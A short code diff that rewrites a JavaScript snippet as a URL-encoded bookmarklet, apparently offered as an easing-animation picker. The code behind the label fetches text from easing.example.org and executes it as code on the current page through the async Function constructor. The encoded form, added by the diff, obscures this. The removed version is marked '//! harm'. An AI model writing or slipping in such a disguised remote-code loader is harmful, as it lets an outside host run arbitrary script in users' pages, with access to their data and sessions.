@@ -1,9 +1,1 @@
-void (async () => {
-  const Runner = (async () => {}).constructor;
-  const names = ["ease", "bounce", "elastic"];
-  const pick = prompt("Which easing? " + names.join(", "), names[0]);
-  if (!names.includes(pick)) return;
-  const text = await (await fetch("https://easing.example.org/" + pick)).text();
-  const run = new Runner("root", text);
-  await run(document.body); //! harm
-})();
+javascript:void%20%28async%20%28%29%20%3D%3E%20%7B%20const%20Runner%20%3D%20%28async%20%28%29%20%3D%3E%20%7B%7D%29.constructor%3B%20const%20names%20%3D%20%5B%22ease%22%2C%20%22bounce%22%2C%20%22elastic%22%5D%3B%20const%20pick%20%3D%20prompt%28%22Which%20easing%3F%20%22%20%2B%20names.join%28%22%2C%20%22%29%2C%20names%5B0%5D%29%3B%20if%20%28%21names.includes%28pick%29%29%20return%3B%20const%20text%20%3D%20await%20%28await%20fetch%28%22https%3A%2F%2Feasing.example.org%2F%22%20%2B%20pick%29%29.text%28%29%3B%20const%20run%20%3D%20new%20Runner%28%22root%22%2C%20text%29%3B%20await%20run%28document.body%29%3B%20%7D%29%28%29%3B
